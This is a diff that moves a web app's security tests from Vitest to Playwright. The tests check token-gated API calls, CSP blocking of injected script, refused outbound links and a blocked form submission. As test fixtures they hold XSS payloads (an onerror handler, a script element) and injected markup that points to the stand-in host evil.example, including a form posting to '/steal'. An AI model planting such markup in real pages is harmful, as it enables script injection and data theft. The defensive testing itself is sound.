@@ -1,102 +1,127 @@
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { Page } from '@playwright/test';
 import { webTransport } from '../../src-shared/host/contract';
-import { startHarness, type Harness } from './harness';
+import { expect, test } from './fixtures';
 
 // The web edition's half of docs/security.md: the host refuses calls without the per-launch
 // token, and nothing a page contains can navigate the app away or replace it.
 
-let h: Harness;
-const warnings: string[] = [];
 const allowedExternal = 'https://github.com/campaign-studio';
 
-beforeAll(async () => {
-  h = await startHarness();
-  // The machine may be offline: answer the allowed external site locally, and fail anything else loudly.
-  await h.context.route('https://github.com/**', (route) => route.fulfill({ status: 200, contentType: 'text/html', body: '<title>external</title>external' }));
-  h.page.on('console', (message) => {
-    if (message.type() === 'warning') warnings.push(message.text());
-  });
-  await h.page.goto(h.host.url);
-  await h.page.getByTestId('app-version').waitFor();
-});
+// Refused scripts, forms and links are reported on the console: that is what these tests cause.
+test.use({ allowPageErrors: true });
 
-afterAll(async () => {
-  await h?.close();
+test.beforeEach(async ({ page, context }) => {
+  // The machine may be offline: answer the allowed external site locally.
+  await context.route('https://github.com/**', (route) => route.fulfill({ status: 200, contentType: 'text/html', body: '<title>external</title>external' }));
+  await page.goto('/');
+  await expect(page.getByTestId('app-version')).toBeVisible();
 });
 
 /** Adds an element to the page outside React, as injected or user-supplied markup would be. */
-async function inject(html: string): Promise<void> {
-  await h.page.evaluate((markup) => document.body.insertAdjacentHTML('beforeend', markup), html);
+async function inject(page: Page, html: string): Promise<void> {
+  await page.evaluate((markup) => document.body.insertAdjacentHTML('beforeend', markup), html);
 }
 
-async function appIsStillShown(): Promise<void> {
-  expect(h.page.url()).toBe(h.host.url);
-  expect(await h.page.getByTestId('app-version').isVisible()).toBe(true);
-}
-
-describe('web edition security', () => {
-  it('refuses an API call without the token, from outside and from the page', async () => {
-    const outside = await fetch(new URL(`${webTransport.apiPrefix}secrets.set`, h.host.url), {
-      method: 'POST',
-      headers: { 'content-type': 'application/json' },
-      body: JSON.stringify({ name: 'backend.default', value: 'planted' }),
+/** Resolves with the directives of the next `count` CSP violations the page reports. */
+async function nextViolations(page: Page, count: number): Promise<() => Promise<string[]>> {
+  await page.evaluate((n) => {
+    const seen: string[] = [];
+    (window as unknown as { __violations: Promise<string[]> }).__violations = new Promise((resolve) => {
+      document.addEventListener('securitypolicyviolation', (event) => {
+        seen.push(event.violatedDirective);
+        if (seen.length === n) resolve(seen.sort());
+      });
     });
-    expect(outside.status).toBe(401);
+  }, count);
+  return () => page.evaluate(() => (window as unknown as { __violations: Promise<string[]> }).__violations);
+}
 
-    const fromPage = await h.page.evaluate(async (prefix) => {
-      const response = await fetch(`${prefix}app.info`, { method: 'POST', body: '{}' });
-      return response.status;
-    }, webTransport.apiPrefix);
-    expect(fromPage).toBe(401);
+async function appIsStillShown(page: Page, url: string): Promise<void> {
+  expect(page.url()).toBe(url);
+  await expect(page.getByTestId('app-version')).toBeVisible();
+}
 
-    // With the token the page was served, the same host answers, and the planted secret is not there.
-    const withToken = await h.page.evaluate(
-      async ({ prefix, header, meta }) => {
-        const token = document.querySelector<HTMLMetaElement>(`meta[name="${meta}"]`)?.content ?? '';
-        const response = await fetch(`${prefix}secrets.has`, { method: 'POST', headers: { [header]: token }, body: '{"name":"backend.default"}' });
-        return { status: response.status, body: (await response.json()) as unknown };
-      },
-      { prefix: webTransport.apiPrefix, header: webTransport.tokenHeader, meta: webTransport.tokenMetaName },
-    );
-    expect(withToken).toEqual({ status: 200, body: { stored: false } });
+test('refuses an API call without the token, from outside and from the page', async ({ page, host }) => {
+  const outside = await fetch(new URL(`${webTransport.apiPrefix}secrets.set`, host.url), {
+    method: 'POST',
+    headers: { 'content-type': 'application/json' },
+    body: JSON.stringify({ name: 'backend.default', value: 'planted' }),
   });
+  expect(outside.status).toBe(401);
 
-  it('serves the page with the strict CSP, so injected script does not run', async () => {
-    const response = await h.page.request.get(h.host.url);
-    expect(response.headers()['content-security-policy']).toContain("script-src 'self'");
-    await inject('<img src="x" onerror="window.__pwned = true"><script>window.__pwned = true</script>');
-    await h.page.waitForTimeout(200);
-    expect(await h.page.evaluate(() => (window as { __pwned?: boolean }).__pwned)).toBeUndefined();
-  });
+  const fromPage = await page.evaluate(async (prefix) => {
+    const response = await fetch(`${prefix}app.info`, { method: 'POST', body: '{}' });
+    return response.status;
+  }, webTransport.apiPrefix);
+  expect(fromPage).toBe(401);
 
-  it('blocks a link that would navigate away, and opens nothing', async () => {
-    const pagesBefore = h.context.pages().length;
-    await inject('<a id="evil-link" href="https://evil.example/phish">win a prize</a>');
-    await h.page.click('#evil-link');
-    await h.page.click('#evil-link', { button: 'middle' });
-    await h.page.waitForTimeout(300);
-    await appIsStillShown();
-    expect(h.context.pages()).toHaveLength(pagesBefore);
-    // The renderer's link guard did it (not a failed load): both clicks were refused by name.
-    expect(warnings.filter((text) => text.includes('Blocked a link to https://evil.example/phish'))).toHaveLength(2);
-  });
+  // With the token the page was served, the same host answers, and the planted secret is not there.
+  const withToken = await page.evaluate(
+    async ({ prefix, header, meta }) => {
+      const token = document.querySelector<HTMLMetaElement>(`meta[name="${meta}"]`)?.content ?? '';
+      const response = await fetch(`${prefix}secrets.has`, { method: 'POST', headers: { [header]: token }, body: '{"name":"backend.default"}' });
+      return { status: response.status, body: (await response.json()) as unknown };
+    },
+    { prefix: webTransport.apiPrefix, header: webTransport.tokenHeader, meta: webTransport.tokenMetaName },
+  );
+  expect(withToken).toEqual({ status: 200, body: { stored: false } });
+});
 
-  it('opens an allowed external link in a new tab without an opener, never in place of the app', async () => {
-    await inject(`<a id="docs-link" href="${allowedExternal}" target="_self">our code</a>`);
-    const [popup] = await Promise.all([h.context.waitForEvent('page'), h.page.click('#docs-link')]);
-    await popup.waitForLoadState();
-    expect(popup.url()).toBe(allowedExternal);
-    expect(await popup.evaluate(() => window.opener)).toBeNull();
-    await popup.close();
-    await appIsStillShown();
+test('serves the page with the strict CSP, so injected script does not run', async ({ page }) => {
+  const response = await page.request.get('/');
+  expect(response.headers()['content-security-policy']).toContain("script-src 'self'");
+  const violations = await nextViolations(page, 2);
+  // An inline event handler (runs when the image fails) and a script element added by script:
+  // both would run without the policy (markup parsed by insertAdjacentHTML never runs <script>).
+  await inject(page, '<img src="/no-such-image.png" onerror="window.__pwned = true">');
+  await page.evaluate(() => {
+    const script = document.createElement('script');
+    script.textContent = 'window.__pwned = true';
+    document.body.append(script);
   });
+  expect(await violations()).toEqual(['script-src-attr', 'script-src-elem']);
+  expect(await page.evaluate(() => (window as { __pwned?: boolean }).__pwned)).toBeUndefined();
+});
 
-  // Last: Playwright keeps waiting for the navigation the CSP refused to start.
-  it('blocks a form that would post the page away', async () => {
-    await inject('<form id="evil-form" action="https://evil.example/steal" method="post"><input name="q" value="x"></form>');
-    // Submitted from script: a click would make Playwright wait for a navigation CSP never lets start.
-    await h.page.evaluate(() => document.querySelector<HTMLFormElement>('#evil-form')?.requestSubmit());
-    await h.page.waitForTimeout(300);
-    await appIsStillShown();
+test('blocks a link that would navigate away, and opens nothing', async ({ page, context, host }) => {
+  const warnings: string[] = [];
+  page.on('console', (message) => {
+    if (message.type() === 'warning') warnings.push(message.text());
   });
+  const pagesBefore = context.pages().length;
+  await inject(page, '<a id="evil-link" href="https://evil.example/phish">win a prize</a>');
+  await page.click('#evil-link');
+  await page.click('#evil-link', { button: 'middle' });
+  // The renderer's link guard did it (not a failed load): both clicks were refused by name.
+  await expect.poll(() => warnings.filter((text) => text.includes('Blocked a link to https://evil.example/phish'))).toHaveLength(2);
+  await appIsStillShown(page, host.url);
+  expect(context.pages()).toHaveLength(pagesBefore);
+});
+
+test('opens an allowed external link in a new tab without an opener, never in place of the app', async ({ page, context, host }) => {
+  await inject(page, `<a id="docs-link" href="${allowedExternal}" target="_self">our code</a>`);
+  const [popup] = await Promise.all([context.waitForEvent('page'), page.click('#docs-link')]);
+  await popup.waitForLoadState();
+  expect(popup.url()).toBe(allowedExternal);
+  expect(await popup.evaluate(() => window.opener)).toBeNull();
+  await popup.close();
+  await appIsStillShown(page, host.url);
+});
+
+test('blocks a form that would post the page away', async ({ page, context, host }) => {
+  const leaked: string[] = [];
+  await context.route('https://evil.example/**', (route) => {
+    leaked.push(route.request().url());
+    return route.fulfill({ status: 200, contentType: 'text/html', body: 'stolen' });
+  });
+  const violations = await nextViolations(page, 1);
+  await inject(page, '<form id="evil-form" action="https://evil.example/steal" method="post"><input name="q" value="x"></form>');
+  // Submitted from script: a click would make Playwright wait for a navigation CSP never lets start.
+  await page.evaluate(() => document.querySelector<HTMLFormElement>('#evil-form')?.requestSubmit());
+  // The policy refuses the submission itself (form-action), so no request is ever made.
+  expect(await violations()).toEqual(['form-action']);
+  expect(leaked).toEqual([]);
+  // Playwright's locators would wait for the navigation the policy never lets start: ask the DOM.
+  expect(page.url()).toBe(host.url);
+  expect(await page.evaluate(() => document.querySelector('[data-testid="app-version"]') !== null)).toBe(true);
 });
